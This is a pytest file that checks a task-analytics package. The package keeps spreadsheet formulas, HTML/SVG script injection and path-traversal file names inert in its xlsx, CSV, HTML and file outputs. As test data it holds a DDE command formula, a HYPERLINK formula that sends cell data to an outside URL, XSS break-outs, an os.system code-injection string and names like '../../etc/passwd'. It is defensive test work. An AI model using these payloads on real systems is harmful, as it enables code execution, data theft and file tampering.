"""Hostile input on the output side: formulas in spreadsheets, markup in pages, names as paths.

The hostile plan and store (``tests/hostile.py``) put formula injection (``=cmd|' /C calc'!A0``,
``+1``, ``-2+3``, ``@SUM(A1)``) and script injection (``<script>``, ``onerror``, ``">`` break-outs)
into task titles, a milestone and its metric, unit and leader names, the document title, the
plan's name, notes and file names. Every ``.xlsx`` and ``.csv`` the package writes must keep them
as text (:mod:`taskanalytics.schema.cells`), every page must show them as text, and every file
made from a name must stay in its folder. ``docs/security.md`` lists each attack with its test.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from hostile import (
    FILES,
    FORMULAS,
    LEADER,
    MILESTONE,
    NOTES,
    PLAN_NAME,
    SCRIPTS,
    TITLES,
    UNITS,
    build_hostile,
    write_hostile_plans,
)

from taskanalytics import briefing, charts
from taskanalytics.briefing.pages import page_stem
from taskanalytics.charts.svg import HandDrawn
from taskanalytics.cli import main
from taskanalytics.errors import TaskAnalyticsError
from taskanalytics.explore.data import explore_data, export_selection, select
from taskanalytics.plan.export import write_csv, write_tables
from taskanalytics.progress.store import load_progress_history
from taskanalytics.progress.templates import (
    safe_template_path,
    template_filename,
    write_template,
    write_templates,
)
from taskanalytics.schema.cells import (
    looks_like_formula,
    neutralise_formula,
    neutralise_frame,
    neutralise_sheet,
    strip_illegal_chars,
)
from taskanalytics.schema.names import MAX_STEM_BYTES, fit_stem

NOTE_TEXTS = [note for _, note, _ in NOTES.values()]
#: What a spreadsheet may run, written here independently of the package's own rule.
LIVE = re.compile(r"^(?:[\t\r]|\s*[=+\-@])")


@pytest.fixture(scope="module")
def plans(tmp_path_factory):
    """The hostile plans alone (no store): what a plan author controls."""
    return write_hostile_plans(tmp_path_factory.mktemp("plans"))


@pytest.fixture(scope="module")
def hostile(plans, tmp_path_factory):
    """The plans and a store of the hostile units' reports: what a clerk controls too."""
    return build_hostile(plans, tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def ctx(hostile):
    return briefing.load_context("2023Q2", plan_path=hostile.plan_path, store=hostile.store)


@pytest.fixture(scope="module")
def ctx_2024(hostile):
    return briefing.load_context("2024Q1", plan_path=hostile.plan_2024_path, store=hostile.store)


# --------------------------------------------------------------------------- the rule


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\tplain",  # a leading tab or CR alone: some importers strip it, then read what follows
        "  =1+1",
        "\u3000=1+1",  # the ideographic space
        "\n@SUM(A1)",
        '=HYPERLINK("http://example.com/?"&A1,"点击")',
    ],
)
def test_formula_like_texts_are_recognised_and_quoted_for_csv(text):
    assert looks_like_formula(text)
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["财政局", "2-3", "a=b", "", "'=1", 2, -2, -2.5, None, dt.date(2023, 1, 1)]
)
def test_safe_values_and_numbers_are_unchanged(value):
    assert not looks_like_formula(value)
    assert neutralise_formula(value) is value


def test_neutralise_frame_quotes_text_and_headers_keeps_numbers_and_input():
    frame = pd.DataFrame({"note": ["=1+1", "ok", None], "-2+3": [-2, 3, 4], "x": [-1.5, 0, 1]})
    out = neutralise_frame(frame)
    assert out.columns.tolist() == ["note", "'-2+3", "x"]
    assert out["note"].tolist()[:2] == ["'=1+1", "ok"] and out["note"].isna().iloc[2]
    assert out["'-2+3"].tolist() == [-2, 3, 4] and out["'-2+3"].dtype == frame["-2+3"].dtype
    assert frame["note"].iloc[0] == "=1+1" and "-2+3" in frame  # the input is not modified


def test_neutralise_sheet_types_text_keeps_value_and_numbers():
    ws = openpyxl.Workbook().active
    ws.append(["=cmd|' /C calc'!A0", "+1", " @SUM(A1)", -2, "财政局"])
    assert ws["A1"].data_type == "f"  # what openpyxl alone would write: a live formula
    assert neutralise_sheet(ws) == 3
    assert [c.data_type for c in ws[1]] == ["s", "s", "s", "n", "s"]
    assert [c.quotePrefix for c in ws[1]] == [True, True, True, False, False]
    assert ws["A1"].value == "=cmd|' /C calc'!A0" and ws["D1"].value == -2


def test_illegal_control_characters_become_replacement_characters():
    assert strip_illegal_chars("a\x00b\x1fc\td\ne") == "a\ufffdb\ufffdc\td\ne"
    assert strip_illegal_chars(5) == 5


# --------------------------------------------------------------------------- the writers


def _xlsx_texts(path: Path) -> list[str]:
    """Every text cell of a workbook, checked: no formula anywhere, formula-like text quoted.

    The package writes no formulas on purpose, so any formula cell is an injection; a text that
    a spreadsheet could take for one must be a text cell with the quote prefix (what Excel stores
    for ``'=…`` typed by hand), its value unchanged.
    """
    wb = openpyxl.load_workbook(path)  # data_only=False: formulas read as formulas
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if LIVE.match(cell.value):
                        assert cell.quotePrefix, (path.name, ws.title, cell.coordinate)
    return texts


def _number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


def _csv_fields(path: Path) -> list[str]:
    """Every field of a csv, checked: none that a spreadsheet would read as a formula.

    A number (``-91`` days late) is a number in a csv too, not a formula, and is left as it is.
    """
    text = path.read_text(encoding="utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    assert not [f for f in fields if LIVE.match(f) and not _number(f)], path.name
    return fields


def _contains(texts: list[str], wanted: str) -> bool:
    return any(wanted in t for t in texts)


def _assert_quoted_in_csv(fields: list[str], wanted: list[str]) -> None:
    for w in wanted:
        assert any(f.startswith("'" + w) for f in fields), w


def test_parse_xlsx_keeps_plan_text_as_text(plans, tmp_path):
    result = CliRunner().invoke(
        main, ["parse", str(plans.plan_path), "--format", "xlsx", "--out", str(tmp_path)]
    )
    assert result.exit_code == 0, result.output
    texts = _xlsx_texts(tmp_path / "plan.xlsx")
    for wanted in [*TITLES.values(), MILESTONE[1], *UNITS, LEADER]:
        assert _contains(texts, wanted), wanted
    assert all(any(t.startswith(f) for t in texts) for f in FORMULAS)  # each at a cell's start


def test_parse_csv_quotes_formula_like_text(plans, tmp_path):
    result = CliRunner().invoke(main, ["parse", str(plans.plan_path), "--out", str(tmp_path)])
    assert result.exit_code == 0, result.output
    tasks = _csv_fields(tmp_path / "tasks.csv")
    _assert_quoted_in_csv(tasks, list(TITLES.values()))
    _assert_quoted_in_csv(_csv_fields(tmp_path / "milestones.csv"), [MILESTONE[1]])
    _assert_quoted_in_csv(_csv_fields(tmp_path / "owners.csv"), [*UNITS, LEADER])
    _csv_fields(tmp_path / "targets.csv")


def test_negative_numbers_stay_numbers_in_csv_and_xlsx(plans, tmp_path):
    targets = plans.plan.targets.copy()
    targets.loc[targets["milestone_id"] == "T110.01", "value"] = -2.0
    plan = dataclasses.replace(plans.plan, targets=targets)
    (csv_targets,) = [p for p in write_tables(plan, tmp_path / "csv") if p.stem == "targets"]
    frame = pd.read_csv(csv_targets, encoding="utf-8-sig")
    assert frame.loc[frame["milestone_id"] == "T110.01", "value"].tolist() == [-2.0]
    (book,) = write_tables(plan, tmp_path / "xlsx", fmt="xlsx")
    ws = openpyxl.load_workbook(book)["targets"]
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "T110.01")
    value = row[header.index("value")]
    assert value.value == -2 and value.data_type == "n" and not value.quotePrefix


def test_templates_show_plan_text_as_text_and_keep_it_exact(plans, tmp_path):
    paths = write_templates(plans.plan, "2023Q2", tmp_path, units=list(UNITS))
    for unit, path in zip(UNITS, paths, strict=True):
        texts = _xlsx_texts(path)
        about = dict(openpyxl.load_workbook(path)["说明"].iter_rows(max_col=2, values_only=True))
        assert about["填报单位"] == unit  # the intake reads the unit back from here
        assert about["任务来源"] == plans.plan.meta["title"]
        if unit == UNITS[0]:
            assert _contains(texts, TITLES["T110"]) and _contains(texts, MILESTONE[1])
        else:
            assert _contains(texts, TITLES["T111"])


def test_filled_templates_of_hostile_units_are_ingested_with_their_notes(hostile):
    """The round trip: the intake reads the unit back from the quote-prefixed 说明 cell, and
    the notes a clerk typed as text land in the store unchanged."""
    stored = load_progress_history(hostile.store, plan=hostile.plan)
    assert set(UNITS) <= set(stored["unit"]) and set(NOTE_TEXTS) <= set(stored["note"])
    assert set(FILES.values()) <= set(stored["source_file"])


def test_explorer_export_keeps_notes_titles_and_names_as_text(hostile, tmp_path):
    progress = load_progress_history(hostile.store, plan=hostile.plan)
    data = explore_data(hostile.plan, progress, quarter="2023Q2")
    sel = select(data, quarter="2023Q2", lead_unit=UNITS[0])
    paths = export_selection(sel, tmp_path, stamp=dt.datetime(2023, 7, 1))
    texts = _xlsx_texts(paths[0])
    for wanted in [TITLES["T110"], MILESTONE[1], UNITS[0], LEADER, *NOTE_TEXTS[:2]]:
        assert _contains(texts, wanted), wanted
    assert UNITS[0] in texts  # the filters sheet: the chosen unit, as typed
    fields = [f for p in paths[1:] for f in _csv_fields(p)]
    _assert_quoted_in_csv(fields, [TITLES["T110"], MILESTONE[1], UNITS[0], *NOTE_TEXTS[:2]])


def test_watchlist_xlsx_keeps_notes_titles_and_names_as_text(ctx, tmp_path):
    path = briefing.write_watchlist_xlsx(ctx, tmp_path / "watchlist.xlsx")
    texts = _xlsx_texts(path)
    for wanted in [TITLES["T110"], TITLES["T111"], UNITS[0], UNITS[1], *NOTE_TEXTS[1:]]:
        assert _contains(texts, wanted), wanted


def test_plans_diff_csv_quotes_formula_like_text(plans, tmp_path):
    out = tmp_path / "diff.csv"
    result = CliRunner().invoke(
        main,
        ["plans", "diff", str(plans.plan_path), str(plans.plan_2024_path), "--csv", str(out)],
    )
    assert result.exit_code == 0, result.output
    _assert_quoted_in_csv(_csv_fields(out), [MILESTONE[1]])


def test_problem_list_keeps_a_clerks_values_and_file_names_as_text(tmp_path):
    from taskanalytics.errors import RowProblem
    from taskanalytics.progress.problems import write_problems_xlsx

    found = [
        RowProblem(FILES[UNITS[0]], "进度填报", 2, "实际值1", FORMULAS[0], "a number"),
        RowProblem(FILES[UNITS[1]], None, 3, "状态", "@SUM(A1)\x00", "推进中 or 已完成"),
        RowProblem("a.xlsx", None, 4, "实际值1", -2, "a number above 0"),
    ]
    path = write_problems_xlsx(found, tmp_path / "problems.xlsx")
    texts = _xlsx_texts(path)
    assert {FILES[UNITS[0]], FORMULAS[0], "@SUM(A1)\ufffd"} <= set(texts)
    ws = openpyxl.load_workbook(path).active
    assert any(c.value == -2 and c.data_type == "n" for row in ws.iter_rows() for c in row)


def test_write_csv_quotes_headers_and_cells(tmp_path):
    frame = pd.DataFrame({"=A1": ["@SUM(A1)", "ok"], "n": [-1, 2]})
    fields = _csv_fields(write_csv(frame, tmp_path / "x.csv"))
    assert fields == ["'=A1", "n", "'@SUM(A1)", "-1", "ok", "2"]


def test_nul_and_control_characters_do_not_crash_the_xlsx_writers(plans, tmp_path):
    tasks = plans.plan.tasks.copy()
    tasks.loc[tasks["task_id"] == "T110", "title"] = "=化解\x00债务\x07"
    plan = dataclasses.replace(plans.plan, tasks=tasks)
    (book,) = write_tables(plan, tmp_path, fmt="xlsx")
    assert "=化解\ufffd债务\ufffd" in _xlsx_texts(book)
    template = write_template(plan, UNITS[0], "2023Q2", tmp_path)
    assert "=化解\ufffd债务\ufffd" in _xlsx_texts(template)


# --------------------------------------------------------------------------- pages


class _Markup(HTMLParser):
    """What a browser would run: script elements, event-handler attributes, injected images."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self.text: list[str] = []
        self._script = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith("on"):
                self.live.append(f"<{tag} {name}={value!r}>")
        if tag == "img" and dict(attrs).get("src") == "x":
            self.live.append("<img src=x>")
        self._script = tag == "script"

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self._script = False

    def handle_endtag(self, tag):
        self._script = False

    def handle_data(self, data):
        if self._script and "alert" in data:
            self.live.append(f"<script>{data}</script>")
        self.text.append(data)


def _inert(html: str) -> str:
    """Assert that nothing injected runs; return the page's text (entities decoded)."""
    for payload in SCRIPTS:
        assert payload not in html, payload
    parser = _Markup()
    parser.feed(html)
    parser.close()
    assert parser.live == []
    return "".join(parser.text)


def _html(part) -> str:
    return part if isinstance(part, str) else part.data


def _page(*parts) -> str:
    """The text of a page made of ``parts`` (HTML objects or None), checked by :func:`_inert`."""
    return _inert("".join(_html(p) for p in parts if p is not None))


def _svg(chart) -> str:
    if isinstance(chart, HandDrawn):  # drawn by hand, not by vl-convert
        return _inert(chart.svg_variants()[0])
    return _inert(charts.render_svg(chart.to_dict()))


def test_header_and_footer_show_plan_names_and_versions_as_text(ctx):
    """A plan's name and version come from the workspace and the plan document."""
    version = dataclasses.replace(ctx.plan_version, name=PLAN_NAME, doc_number=SCRIPTS[2])
    named = dataclasses.replace(ctx, plan_version=version, plan_versions=2)
    text = _page(
        briefing.briefing_header(named, "全区重点工作任务季度进展简报"),
        briefing.sources_footer(named),
    )
    assert PLAN_NAME in text and SCRIPTS[2] in text


def test_unit_pages_show_hostile_text_as_text(ctx):
    for unit, title in ((UNITS[0], TITLES["T110"]), (UNITS[1], TITLES["T111"])):
        text = _page(
            briefing.briefing_header(ctx, f"{unit}重点工作任务季度简报", unit=unit),
            briefing.kpi_cards(ctx, unit=unit),
            briefing.watchlist_table(ctx, unit=unit, max_rows=None),
            briefing.tasks_table(ctx, unit=unit),
            briefing.milestones_table(ctx, unit=unit),
            briefing.upcoming_table(ctx, unit=unit),
            briefing.indicators_table(ctx, unit=unit),
            briefing.trend_table(ctx, unit=unit),
            briefing.sources_footer(ctx, unit=unit),
        )
        assert unit in text and title in text and FILES[unit].removesuffix(".xlsx") in text
    assert all(
        note in _page(briefing.watchlist_table(ctx, max_rows=None)) for note in NOTE_TEXTS[1:]
    )
    assert MILESTONE[1] in _page(briefing.milestones_table(ctx, unit=UNITS[0]))


def test_leader_page_shows_hostile_text_as_text(ctx):
    text = _page(
        briefing.briefing_header(ctx, f"{LEADER}同志分管工作季度简报", leader=LEADER),
        briefing.kpi_cards(ctx, leader=LEADER),
        briefing.portfolio_table(ctx, LEADER),
        briefing.watchlist_table(ctx, leader=LEADER, max_rows=30),
        briefing.tasks_table(ctx, leader=LEADER),
        briefing.indicators_table(ctx, leader=LEADER),
        briefing.trend_table(ctx, leader=LEADER),
        briefing.sources_footer(ctx),
    )
    assert LEADER in text and TITLES["T110"] in text


def test_overview_watchlist_and_indicator_pages_show_hostile_text_as_text(ctx):
    text = _page(
        briefing.briefing_header(ctx, "全区重点工作任务季度进展简报"),
        briefing.kpi_cards(ctx),
        briefing.watchlist_table(ctx, max_rows=25),
        briefing.watchlist_more(ctx),
        briefing.watchlist_summary(ctx),
        briefing.rectification_summary(ctx),
        briefing.not_reporting_note(ctx),
        briefing.status_table(ctx, "category"),
        briefing.status_table(ctx, "unit"),
        briefing.status_table(ctx, "leader"),
        briefing.unit_ranking_table(ctx),
        briefing.main_targets_table(ctx),
        briefing.trend_table(ctx),
        briefing.indicators_all_summary(ctx),
        briefing.indicators_all_table(ctx),
        briefing.sources_footer(ctx),
    )
    assert all(name in text for name in (*UNITS, LEADER, TITLES["T110"]))
    keys = [k for k in briefing.indicator_keys(ctx.plan) if "svg" in k]
    assert keys, "the hostile milestone's metric is an indicator of its own"
    for key in keys:
        shown = _page(
            briefing.briefing_header(ctx, f"指标简报：{key}"),
            briefing.indicator_facts(ctx, key),
            briefing.indicator_table(ctx, key),
            briefing.indicator_notes(ctx, key),
        )
        assert key in shown


def test_charts_draw_hostile_labels_as_text(ctx):
    drawn = [
        briefing.status_chart(ctx, "unit"),
        briefing.trend_chart(ctx, unit=UNITS[1]),
        briefing.main_targets_chart(ctx),
        charts.chart_tasks_by_lead_unit(ctx.plan.tasks, top_n=40),
        charts.chart_tasks_by_leader(ctx.plan.tasks),
    ]
    svgs = [_svg(c) for c in drawn if c is not None]
    assert any(UNITS[1] in s for s in svgs)


def test_source_audit_shows_the_document_title_as_text(plans):
    plan = plans.plan
    findings = briefing.count_plan(plan)
    text = _page(
        briefing.heading("计划总览", subtitle=plan.meta["title"], back_link=True),
        briefing.plan_key_facts(plan),
        briefing.table_html(findings),
        briefing.plan_sources_footer(plans.plan_path, doc=plan.meta["title"]),
    )
    assert plan.meta["title"].endswith(SCRIPTS[0]) and plan.meta["title"] in text


def test_year_on_year_section_shows_names_and_titles_as_text(ctx_2024):
    section = briefing.yoy_section(ctx_2024)
    assert section is not None, "the hostile metric is compared with last year's"
    text = _page(section)
    assert SCRIPTS[0] in text  # last year's document title: where its figures come from
    assert any("svg" in m for m in briefing.previous_year_results(
        ctx_2024.plan, ctx_2024.store_path, quarter="2024Q1")["metric"])  # fmt: skip
    chart = briefing.yoy_chart(ctx_2024)
    if chart is not None:
        _svg(chart)


def test_quarter_index_shows_plan_unit_and_file_names_as_text(ctx, hostile, tmp_path):
    from taskanalytics.quarterly import quarterly_briefings, write_index

    ctx = dataclasses.replace(
        ctx, plan_version=dataclasses.replace(ctx.plan_version, name=PLAN_NAME)
    )

    pages = quarterly_briefings(
        hostile.plan, "2023Q2", plan_path=hostile.plan_path, store=hostile.store
    )
    index = write_index(
        tmp_path,
        pages,
        quarter="2023Q2",
        as_of=dt.date(2023, 6, 30),
        plan_file=hostile.plan_path,
        store_file=hostile.store,
        ctx=ctx,
    )
    text = _inert(index.read_text(encoding="utf-8"))
    assert PLAN_NAME in text and LEADER in text and all(u in text for u in UNITS)
    assert all(name in text for name in FILES.values())
    for b in pages:  # every link stays in the folder
        assert "/" not in b.stem and not b.stem.startswith(".")


def test_root_index_shows_plan_folder_names_as_text(tmp_path):
    from taskanalytics.quarterly import plan_folder, write_root_index

    for name in (PLAN_NAME, '"><svg onload=alert(1)>', "=1+1"):
        quarter = tmp_path / plan_folder(name) / "2023Q2"
        quarter.mkdir(parents=True)
        (quarter / "index.html").write_text("<p>ok</p>", encoding="utf-8")
    page = write_root_index(tmp_path).read_text(encoding="utf-8")
    text = _inert(page)
    assert PLAN_NAME in text and '"><svg onload=alert(1)>' in text
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert len(hrefs) == 3 and all("<" not in h and '"' not in h for h in hrefs)


@pytest.mark.parametrize("name", ["../x", "a/b", "a\\b", ".hidden", "..", "", " x"])
def test_a_plan_name_that_could_leave_the_reports_folder_is_refused(name):
    from taskanalytics.errors import NotebookRunError
    from taskanalytics.quarterly import plan_folder

    with pytest.raises(NotebookRunError):
        plan_folder(name)


@pytest.mark.parametrize("value", [*SCRIPTS, *UNITS, LEADER, 'x"; import os; os.system("id"); "'])
def test_notebook_parameters_cannot_inject_code(value):
    """papermill writes a unit or leader name into the parameters cell as a string literal."""
    import ast

    from papermill.translators import PythonTranslator

    assert ast.literal_eval(PythonTranslator.translate(value)) == value


@pytest.mark.slow
def test_executed_unit_and_leader_briefings_are_inert(hostile, tmp_path, warm_kernel):
    from taskanalytics.runner import run_notebook

    common = {"quarter": "2023Q2", "plan_path": str(hostile.plan_path), "store": str(hostile.store)}
    for notebook, extra, wanted in (
        ("unit_briefing", {"unit": UNITS[1]}, [UNITS[1], TITLES["T111"], NOTE_TEXTS[2]]),
        ("leader_briefing", {"leader": LEADER}, [LEADER, TITLES["T110"]]),
    ):
        page = run_notebook(
            notebook, parameters={**common, **extra}, output_dir=tmp_path, kernel=warm_kernel
        )
        html = page.read_text(encoding="utf-8")
        assert "<script" not in html  # no script at all: a server may send script-src 'none'
        text = _inert(html.split("<main>", 1)[1])
        assert all(w in text for w in wanted), notebook
        title = re.search(r"<title>(.*?)</title>", html, re.S).group(1)
        assert "<" not in title


# --------------------------------------------------------------------------- file names

HOSTILE_NAMES = [
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "..",
    ".",
    "",
    "   ",
    ".hidden",
    "a\x00b",
    "\x00",
    "%2e%2e%2f",
    "#top?x=1",
    "长" * 200,
    "a" * 400,
    "~",
    "CON",
]


@pytest.mark.parametrize("unit", HOSTILE_NAMES)
def test_template_file_names_stay_in_their_folder(unit, tmp_path):
    name = template_filename(unit, "2023Q1")
    path = safe_template_path(tmp_path, name)
    assert path.parent == tmp_path.resolve() and "\x00" not in name
    assert len(name.encode("utf-8")) <= MAX_STEM_BYTES + len("_2023Q1.xlsx")
    assert not name.startswith(".")
    path.write_bytes(b"")  # the file system takes it
    assert [p.name for p in tmp_path.iterdir()] == [name]


@pytest.mark.parametrize("key", HOSTILE_NAMES)
def test_page_names_stay_in_their_folder(key, tmp_path):
    name = page_stem("unit", key) + ".html"
    path = (tmp_path / name).resolve()
    assert path.parent == tmp_path.resolve() and "\x00" not in name and "/" not in name
    assert len(name.encode("utf-8")) <= 255
    path.write_bytes(b"")
    assert [p.name for p in tmp_path.iterdir()] == [name]


def test_long_names_keep_apart():
    a, b = "长" * 200 + "甲", "长" * 200 + "乙"
    assert template_filename(a, "2023Q1") != template_filename(b, "2023Q1")
    assert page_stem("unit", a) != page_stem("unit", b)
    assert fit_stem("财政局") == "财政局"


def test_templates_of_hostile_unit_names_are_written_inside(seed_plan, tmp_path):
    renamed = {
        "财政局": "../../逃逸",
        "发改局": "/etc/cron.d/x",
        "商务局": "长" * 120,
        "工信局": "a\x00b",
    }
    tasks = seed_plan.tasks.copy()
    tasks["lead_units"] = tasks["lead_units"].map(lambda us: [renamed.get(u, u) for u in us])
    plan = dataclasses.replace(seed_plan, tasks=tasks)
    out = tmp_path / "out"
    paths = write_templates(plan, "2023Q1", out, units=list(renamed.values()))
    assert len(paths) == 4 and all(p.parent == out.resolve() for p in paths)
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == sorted(
        p.name for p in paths
    )
    for unit, path in zip(renamed.values(), paths, strict=True):
        about = dict(openpyxl.load_workbook(path)["说明"].iter_rows(max_col=2, values_only=True))
        assert about["填报单位"] == strip_illegal_chars(unit)


def test_a_planted_link_in_the_template_folder_is_not_followed(seed_plan, tmp_path):
    outside = tmp_path / "outside.xlsx"
    outside.write_bytes(b"keep")
    out = tmp_path / "out"
    out.mkdir()
    (out / template_filename("财政局", "2023Q1")).symlink_to(outside)
    with pytest.raises(TaskAnalyticsError, match="outside"):
        write_template(seed_plan, "财政局", "2023Q1", out, overwrite=True)
    assert outside.read_bytes() == b"keep"
